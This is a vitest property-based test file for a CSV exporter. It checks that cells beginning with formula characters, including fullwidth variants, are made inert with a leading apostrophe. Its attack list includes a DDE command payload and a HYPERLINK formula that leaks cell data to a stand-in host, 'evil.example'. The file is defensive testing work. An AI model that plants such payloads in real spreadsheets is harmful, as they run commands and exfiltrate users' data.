/**
 * CSV exports neutralise formula injection (docs/reliability.md, X8), for any text a page or a person
 * can put in a cell: read back, no text cell starts with a character that makes a spreadsheet run it,
 * and every cell is the original text (with one leading apostrophe where it had to be made inert).
 */
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { toCsv, UTF8_BOM } from '../../lib/export/csv';

const FORMULA = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const ATTACKS = [
  '=cmd|\' /C calc\'!A0', '=HYPERLINK("https://evil.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1', '\r=1',
  '＝1+1', '＋1', '－1', '＠SUM(1)', '=1+1\n=2+2', '"=quoted"', 'a,b,"c"', '<script>alert(1)</script>',
];

describe('CSV formula injection', () => {
  const roundTrip = (cells: string[]) => {
    const text = toCsv([cells.map((_, i) => `c${i}`), cells]);
    expect(text.startsWith(UTF8_BOM)).toBe(true);
    // Header, the row, and the empty line after the final CRLF.
    return Papa.parse<string[]>(text.slice(UTF8_BOM.length), { newline: '\r\n' }).data[1]!;
  };

  it(`neutralises ${ATTACKS.length} known attacks`, () => {
    const back = roundTrip(ATTACKS);
    ATTACKS.forEach((attack, i) => {
      expect(back[i]).toBe(FORMULA.test(attack) ? `'${attack}` : attack);
    });
  });

  it('any text: read back, it is the original (apostrophe-prefixed where needed) and never starts a formula', () => {
    const cell = fc.oneof(fc.string(), fc.constantFrom(...ATTACKS), fc.string().map((s) => `=${s}`), fc.string().map((s) => `\uFF1D${s}`));
    fc.assert(
      fc.property(fc.array(cell, { minLength: 1, maxLength: 6 }), (cells) => {
        const back = roundTrip(cells);
        cells.forEach((original, i) => {
          const read = back[i] ?? '';
          expect(FORMULA.test(read)).toBe(false);
          expect(read).toBe(FORMULA.test(original) ? `'${original}` : original);
        });
      }),
      { seed: 20_261_122, numRuns: 500 },
    );
  });
});
